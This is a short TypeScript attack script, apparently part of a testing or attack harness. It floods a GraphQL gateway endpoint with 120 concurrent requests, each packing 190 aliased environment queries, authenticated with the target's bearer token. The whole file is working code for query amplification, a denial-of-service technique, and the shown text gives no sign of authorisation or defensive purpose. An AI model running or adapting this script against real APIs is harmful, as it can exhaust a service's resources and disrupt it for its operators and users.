/** A narrow token that sends 120 calls of 190 operations at once through the gateway, each another document, again and again. */
import { attackInTurn, post, readTarget } from './sockets.ts';

const target = readTarget();
const names = Array.from({ length: 190 }, (_, index) => `a${index}: environment(id: "e_staging") { id name }`);
const lines = [`Authorization: Bearer ${target.token ?? ''}`, 'Content-Type: application/json'];
let sent = 0;

await attackInTurn(target, 120, () => {
  sent += 1;
  const body = JSON.stringify({ query: `query Wide${sent} { ${names.join(' ')} }` });
  return post(target, '/gateway/railway/graphql/v2', { lines, body });
});
